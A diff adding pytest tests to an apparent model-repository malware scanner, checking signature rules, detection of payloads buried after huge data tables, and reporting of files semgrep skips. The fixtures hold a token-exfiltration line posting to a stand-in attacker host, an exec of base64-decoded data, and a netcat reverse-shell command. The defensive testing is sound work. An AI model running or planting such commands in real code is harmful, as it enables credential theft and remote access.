@@ -154,6 +154,8 @@ SIGNATURE_MATCH = CodeMatch(
     "exec/eval/compile of decoded or decompressed data: a common way to hide a payload.",
     "error",
     "signature",
+    ("decode", "code-exec"),
+    "exec(base64.b64decode(B))",
 )
 
 
@@ -201,3 +203,65 @@ def test_semgrep_environment_drops_secrets(
 def test_not_a_directory(tmp_path: Path) -> None:
     outcome = scan_code(tmp_path / "missing")
     assert outcome.matches == [] and len(outcome.errors) == 1
+
+
+def test_matches_carry_the_line_text_and_the_rule_signals(scanned: tuple[Path, Path, ScanOutcome]) -> None:
+    _, _, outcome = scanned
+    (send,) = [m for m in outcome.matches if m.path == "modeling_evil.py" and m.rule_id == "hubguard.network-send"]
+    assert send.snippet.startswith('requests.post("https://attacker.invalid/t", data={"t": token}, timeout=5)')
+    assert send.signals == ("network-send",)
+    assert all(match.snippet for match in outcome.matches if match.path.endswith(".py"))
+
+
+def test_payload_after_megabytes_of_tables_is_found_by_both_engines(tmp_path: Path) -> None:
+    root = tmp_path / "repo"
+    root.mkdir()
+    rows = "    0.125, 0.25, 0.5, 1.0, 2.0, 4.0, 8.0, 16.0,\n" * 60_000
+    source = f"import base64\nTABLE = [\n{rows}]\nexec(base64.b64decode(PAYLOAD))\n"
+    (root / "modeling_big.py").write_text(source)
+    payload_line = source.count("\n")
+    outcome = scan_code(root)
+    assert outcome.errors == [] and outcome.unscanned == {}
+    found = {(match.rule_id, match.start_line) for match in outcome.matches}
+    assert {("hubguard.exec-decoded-payload", payload_line), ("hubguard.sig.exec-decoded", payload_line)} <= found
+
+
+def test_code_semgrep_cannot_take_is_reported_unscanned(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(scan_module, "STRIP_ABOVE_BYTES", 100)
+    monkeypatch.setattr(scan_module, "MAX_SEMGREP_TARGET_BYTES", 1000)
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "huge.py").write_text("".join(f"value_{index} = compute({index})\n" for index in range(200)) + "nc -e /bin/sh h 1\n")
+    (root / "small.py").write_text("import os\n")
+    monkeypatch.setattr(scan_module, "find_semgrep", lambda: None)
+    outcome = scan_code(root)
+    assert list(outcome.unscanned) == ["huge.py"]
+    assert "once data literals are removed" in outcome.unscanned["huge.py"]
+    assert [(m.path, m.rule_id) for m in outcome.matches] == [("huge.py", "hubguard.sig.reverse-shell-netcat")]
+
+
+def test_semgrep_errors_about_one_file_mark_that_file_unscanned(
+    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    script = (
+        "import json, sys\n"
+        "target = sys.argv[-1]\n"
+        "print(json.dumps({'results': [], 'paths': {'scanned': []},\n"
+        "    'errors': [{'type': 'Timeout', 'message': 'Timeout when running x on ' + target, 'path': target}]}))\n"
+    )
+    executable = fake_semgrep(tmp_path, script)
+    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
+    outcome = scan_code(small_repo)
+    assert outcome.errors == []
+    assert list(outcome.unscanned) == ["modeling.py"]
+    assert outcome.unscanned["modeling.py"].startswith("semgrep: Timeout when running x on ")
+
+
+def test_a_target_semgrep_silently_skips_is_unscanned(
+    small_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    executable = fake_semgrep(tmp_path, "print('{\"results\": [], \"errors\": [], \"paths\": {\"scanned\": []}}')")
+    monkeypatch.setattr(scan_module, "find_semgrep", lambda: executable)
+    assert scan_code(small_repo).unscanned == {"modeling.py": "semgrep did not analyse it"}
